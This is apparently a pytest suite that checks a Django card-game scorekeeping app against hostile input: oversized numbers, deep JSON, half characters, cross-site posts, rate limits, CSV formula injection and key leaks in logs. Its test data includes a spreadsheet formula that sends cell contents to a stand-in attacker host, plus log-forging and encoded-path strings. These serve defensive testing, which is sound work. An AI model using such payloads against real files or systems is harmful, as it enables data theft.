"""Nothing anyone sends can stall the server, answer a 500, or change a club it should not:
numbers as long text, JSON nested deep, half characters, names that grow when casefolded, huge
bodies, other sites' pages posting to the API, spreadsheet formulas and keys in logs."""

import csv
import io
import json
import time

import pytest
from django.test import Client
from django.urls import reverse

from scorekeeper import play
from scorekeeper.lib.redact import redact
from scorekeeper.models import Club, Game, Player, Round

from ..factory import make_club, make_game, record_knocks

pytestmark = pytest.mark.django_db

WORST_NUMBERS = [
    "1e50000000",
    "1e4300",
    "-1e4300",
    "1e-5000",
    "9" * 4300,
    "9" * 5000,
    "1" + "0" * 30_000,
    "0x1F",
    "½",
    "٣",
    "NaN",
    "Infinity",
    "1_000",
    " 3 ",
    "²",
]
LONG_NAME = "Hans-Joachim Müller-Lüdenscheidt von der Weißenfelser Straße"  # 60; 61 casefolded


def post_json(client, url, body, key=None, content_type="application/json"):
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    data = body if isinstance(body, str | bytes) else json.dumps(body)
    return client.post(url, data=data, content_type=content_type, headers=headers)


def cpu_ms(request) -> tuple[float, object]:
    """The CPU time of a request, the least of three tries: a shared machine only adds time."""
    times = []
    for _ in range(3):
        start = time.process_time()
        answer = request()
        times.append((time.process_time() - start) * 1000)
    return min(times), answer


class TestNumbers:
    """Every number from outside is read by one strict reader: refused as fast as a plain one."""

    def requests(self, client, game, raw):
        club = game.club
        showdown = {
            "rules": "scat",
            "ending": "knock",
            "knocker": "Ann",
            "players": [{"name": "Ann", "cards": "KS 9S 2H"}, {"name": "Ben", "value": raw}],
        }
        yield "/api/v1/showdown", lambda: post_json(client, "/api/v1/showdown", showdown)
        overrides = {
            "rules": {"preset": "scat", "overrides": {"lives": raw, "min_knock": raw}},
            "cards": "AS KS QS",
        }
        yield "/api/v1/evaluate", lambda: post_json(client, "/api/v1/evaluate", overrides)
        for switch in ("deck", "three_of_a_kind", "knocker_alone", "round_limit"):
            body = {"rules": {"preset": "scat", "overrides": {switch: raw}}, "cards": "AS KS QS"}
            yield switch, lambda body=body: post_json(client, "/api/v1/evaluate", body)
        game_body = {"rules": "scat", "players": ["Ann", "Ben"], "lives": raw}
        url = f"/api/v1/clubs/{club.id}/games"
        yield url, lambda: post_json(client, url, game_body, club.key)
        rounds = f"/api/v1/games/{game.id}/rounds"
        round_body = {"ending": "knock", "knocker": "Ann", "lowest": ["Ben"], "version": raw}
        yield rounds, lambda: post_json(client, rounds, round_body, club.key)
        undo = reverse("undo", args=[club.key, game.id])
        yield undo, lambda: client.post(undo, {"version": raw})
        record = reverse("record", args=[club.key, game.id])
        yield (
            record,
            lambda: client.post(
                record, {"ending": "knock", "knocker": "0", "lowest": ["1"], "version": raw}
            ),
        )
        new_game = reverse("new-game", args=[club.key])
        form = {
            "preset": "scat",
            "lives": raw,
            "rule_min_knock": raw,
            "rule_deck": raw,
            "new_players": "Ann, Ben",
        }
        yield new_game, lambda: client.post(new_game, form)
        yield (
            "/referee/",
            lambda: client.post("/referee/", {"preset": "scat", "players": raw, "rule_lives": raw}),
        )

    def test_no_number_makes_a_request_slower_than_a_plain_one(self, client):
        """Measured against the same request with a plain "3", in the same process: a number that
        stalled the reader (a million digits, 1e999999) would take seconds, not a few ms more."""
        game = make_game(players=("Ann", "Ben"))
        for _url, request in self.requests(client, game, "3"):
            request()  # warm up: templates, schemas and rules are built once per process
        plain = [cpu_ms(request)[0] for _url, request in self.requests(client, game, "3")]
        rounds = Round.objects.count()
        for raw in WORST_NUMBERS:
            for (url, request), base in zip(self.requests(client, game, raw), plain, strict=True):
                took, answer = cpu_ms(request)
                assert answer.status_code in (200, 302, 400), (url, raw, answer.content[:200])
                assert took < 3 * base + 10, (url, raw[:20], f"{took:.1f} ms, plain {base:.1f} ms")
        assert Round.objects.count() == rounds
        assert Game.objects.count() == 1

    @pytest.mark.parametrize("raw", WORST_NUMBERS)
    def test_the_api_names_the_field_of_a_number_it_cannot_read(self, client, raw):
        body = {
            "rules": "scat",
            "ending": "knock",
            "knocker": "Ann",
            "players": [{"name": "Ann", "cards": "KS 9S 2H"}, {"name": "Ben", "value": raw}],
        }
        response = post_json(client, "/api/v1/showdown", body)
        assert response.status_code == 400
        assert response.json()["field"] == "players[1].value"
        assert "number" in response.json()["error"]

    @pytest.mark.parametrize("raw", ["1e4300", "1e-5000", 1e308])
    def test_a_hand_value_as_a_json_number_out_of_range_is_refused(self, client, raw):
        body = (
            '{"rules": "scat", "ending": "knock", "knocker": "Ann", "players": '
            f'[{{"name": "Ann", "cards": "KS 9S 2H"}}, {{"name": "Ben", "value": {raw}}}]}}'
        )
        response = post_json(client, "/api/v1/showdown", body)
        assert response.status_code == 400 and response.json()["field"] == "players[1].value"


class TestNoFiveHundred:
    JSON_POSTS = ["/api/v1/evaluate", "/api/v1/showdown", "/api/v1/clubs"]

    @pytest.mark.parametrize("depth", [1_000, 20_000])
    def test_json_nested_deep_is_a_400_on_every_json_endpoint(self, client, depth):
        game = make_game()
        deep = "[" * depth + "]" * depth
        body = f'{{"name": {deep}}}'
        urls = [
            *self.JSON_POSTS,
            f"/api/v1/clubs/{game.club.id}/games",
            f"/api/v1/games/{game.id}/rounds",
            f"/api/v1/games/{game.id}/undo",
        ]
        for url in urls:
            response = post_json(client, url, body, game.club.key)
            assert response.status_code == 400, (url, response.content[:200])
            assert set(response.json()) == {"error", "field"}

    @pytest.mark.parametrize("text", ["\ud800", "Ann\udfff", "\udc00Ben"])
    def test_a_lone_surrogate_is_refused_naming_the_field(self, client, text):
        game = make_game()
        key = game.club.key
        escaped = json.dumps(text)  # "\ud800": valid JSON, half a character
        cases = [
            ("/api/v1/clubs", f'{{"name": {escaped}}}', "name"),
            (
                f"/api/v1/clubs/{game.club.id}/games",
                f'{{"rules": "scat", "players": ["Ann", {escaped}]}}',
                "players",
            ),
            (
                f"/api/v1/games/{game.id}/rounds",
                f'{{"ending": "knock", "knocker": "Ann", "lowest": ["Ben"], "client_id": {escaped}}}',
                "client_id",
            ),
            (
                f"/api/v1/games/{game.id}/rounds",
                f'{{"ending": "knock", "knocker": "Ann", "lowest": ["Ben"], "choice": {escaped}}}',
                "choice",
            ),
            (
                "/api/v1/showdown",
                '{"rules": "scat", "ending": "knock", "players": '
                f'[{{"name": {escaped}}}, {{"name": "Ben"}}]}}',
                "players[0].name",
            ),
        ]
        for url, body, field in cases:
            response = post_json(client, url, body, key)
            assert response.status_code == 400, (url, response.content)
            assert response.json()["field"] == field
        assert Club.objects.count() == 1 and Player.objects.count() == 3
        assert not Round.objects.exists()

    def test_half_a_character_in_a_form_is_not_a_500(self, client):
        club = make_club()
        for url in ("/clubs/new", reverse("add-player", args=[club.key])):
            response = client.post(
                url, b"name=%ED%A0%80", content_type="application/x-www-form-urlencoded"
            )
            assert response.status_code in (200, 302, 400)

    @pytest.mark.parametrize("name", ["Bell\x07", "Esc\x1b[31mRed", "Nul\x00"])
    def test_the_club_name_form_refuses_what_the_api_refuses(self, client, name):
        response = client.post("/clubs/new", {"name": name})
        assert response.status_code == 400 and not Club.objects.exists()
        assert "Control characters" in response.content.decode()

    def test_a_name_that_grows_when_casefolded_is_stored_everywhere(self, client):
        assert len(LONG_NAME) == 60 and len(LONG_NAME.casefold()) > 60
        club = make_club()
        client.post(reverse("add-player", args=[club.key]), {"name": LONG_NAME})
        player = club.players.get()
        assert player.name == LONG_NAME
        response = client.post(
            reverse("rename-player", args=[club.key, player.pk]),
            {"name": LONG_NAME.replace("Hans", "Jens")},
        )
        assert response.status_code == 302
        player.refresh_from_db()
        assert player.name.startswith("Jens")
        other = LONG_NAME.replace("Hans", "Karl")
        response = client.post(
            reverse("new-game", args=[club.key]), {"preset": "scat", "new_players": f"{other}, Ann"}
        )
        assert response.status_code == 302
        body = {"rules": "scat", "players": [LONG_NAME.replace("Hans", "Otto"), "Ann"]}
        response = post_json(client, f"/api/v1/clubs/{club.id}/games", body, club.key)
        assert response.status_code == 201
        assert club.players.count() == 4

    @pytest.mark.parametrize("version", ["²", "9" * 5000, "-1", "1e5", ""])
    def test_the_undo_button_reads_its_version_strictly(self, client, version):
        game = record_knocks(make_game(), [("Ann", ["Ben"])])
        response = client.post(reverse("undo", args=[game.club.key, game.id]), {"version": version})
        assert response.status_code == 302
        # Read strictly: a version that is not a plain number takes nothing back.
        assert Round.objects.filter(state="active").count() == (0 if version == "" else 1)

    def test_a_body_over_the_servers_own_limit_is_the_documented_json_413(self, client):
        body = json.dumps({"name": "x" * 3_000_000})
        for url in self.JSON_POSTS:
            response = post_json(client, url, body)
            assert response.status_code == 413
            assert response.json() == {
                "error": "the request is larger than 64 KiB",
                "field": "body",
            }
        assert not Club.objects.exists()


class TestOtherSites:
    @pytest.mark.parametrize(
        "content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]
    )
    def test_a_page_elsewhere_cannot_start_clubs_with_a_simple_post(self, client, content_type):
        # A "no-cors" post from any web page can send these three types, and only these.
        body = '{"name": "Spam"}' if content_type == "text/plain" else "name=Spam"
        if content_type == "multipart/form-data":
            response = client.post("/api/v1/clubs", {"name": "Spam"})
        else:
            response = client.post("/api/v1/clubs", body, content_type=content_type)
        assert response.status_code == 415
        assert response.json()["field"] == "body"
        assert not Club.objects.exists()

    def test_the_club_limit_counts_a_whole_ipv6_64(self, settings):
        settings.KNOCK_CLUBS_PER_HOUR = 2
        answers = [
            Client(REMOTE_ADDR=f"2001:db8:1:2::{i:x}")
            .post("/api/v1/clubs", json.dumps({"name": "Ours"}), content_type="application/json")
            .status_code
            for i in range(1, 5)
        ]
        assert answers == [201, 201, 429, 429]
        other = Client(REMOTE_ADDR="2001:db8:1:3::1").post(
            "/api/v1/clubs", json.dumps({"name": "Theirs"}), content_type="application/json"
        )
        assert other.status_code == 201

    def test_an_ipv4_address_seen_as_ipv6_counts_as_itself(self, settings):
        settings.KNOCK_CLUBS_PER_HOUR = 1
        first = Client(REMOTE_ADDR="192.0.2.7").post("/clubs/new", {"name": "A"})
        second = Client(REMOTE_ADDR="::ffff:192.0.2.7").post("/clubs/new", {"name": "B"})
        assert (first.status_code, second.status_code) == (302, 429)


class TestExports:
    # Tab and CR cannot start a name (names are trimmed), but are neutralised all the same.
    @pytest.mark.parametrize(
        "name", ['=HYPERLINK("https://evil.example/?d="&A1,"x")', "+1", "-2", "@SUM(A1)"]
    )
    def test_a_name_never_becomes_a_spreadsheet_formula(self, client, name):
        club = make_club()
        hostile = play.add_player(club, name)
        game = make_game(players=(hostile.name, "Ben"), club=club)
        record_knocks(game, [(hostile.name, ["Ben"])] * 2 + [("Ben", [hostile.name])] * 3)
        response = client.get(reverse("export-games-csv", args=[club.key]))
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        cells = [cell for row in rows[1:] for cell in row]
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
        assert f"'{name}; Ben" in cells

    @pytest.mark.parametrize(
        "line",
        [
            "GET /%63/{key}/ HTTP/1.1",
            "GET /c%2F{key}/g/x HTTP/1.1",
            "GET /c%2f{key} HTTP/1.1",
            "GET /%76/{view}/ HTTP/1.1",
            "GET /c/{key}/ HTTP/1.1",
            "GET /%2563/{key}/ HTTP/1.1",  # twice encoded: Django does not route it, still kept out
        ],
    )
    def test_keys_are_redacted_from_log_lines_however_the_path_is_encoded(self, line):
        club = make_club()
        text = line.format(key=club.key, view=club.view_key)
        cleaned = redact(redact(text))
        assert club.key not in cleaned and club.view_key not in cleaned
        assert "\n" not in redact("GET /c/x%0a%0dforged HTTP/1.1")
